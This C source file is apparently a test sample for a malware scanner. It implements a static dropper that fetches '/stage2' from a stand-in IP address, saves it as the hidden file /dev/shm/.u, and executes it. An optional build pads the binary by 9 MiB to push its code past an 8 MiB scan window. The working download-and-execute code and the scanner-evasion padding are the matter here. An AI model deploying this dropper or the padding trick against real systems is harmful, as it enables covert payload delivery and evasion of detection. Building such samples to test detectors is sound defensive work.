/* Test sample: a dropper built static and stripped (gcc -static -s): it
 * connects, writes the request, saves the reply, fchmods it and execs it.
 * Built twice: as is, and with PAD defined, which puts 9 MiB of code
 * padding before .text so its code and strings lie past the first 8 MiB. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef PAD
/* .text.unlikely.* is placed before .text by the default linker script. */
__asm__(".section .text.unlikely.pad,\"ax\",@progbits\n"
        ".fill 9437184,1,0xcc\n"
        ".previous\n");
#endif

static const char req[] = "GET /stage2 HTTP/1.1\r\nHost: 198.51.100.22\r\n\r\n";

int main(void) {
    char buf[4096];
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(80);
    inet_pton(AF_INET, "198.51.100.22", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
    write(s, req, sizeof req - 1);
    int f = open("/dev/shm/.u", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    ssize_t n;
    while ((n = read(s, buf, sizeof buf)) > 0) write(f, buf, n);
    fchmod(f, 0755);
    close(f);
    char *argv[] = {"/dev/shm/.u", 0};
    execve("/dev/shm/.u", argv, 0);
    return 0;
}
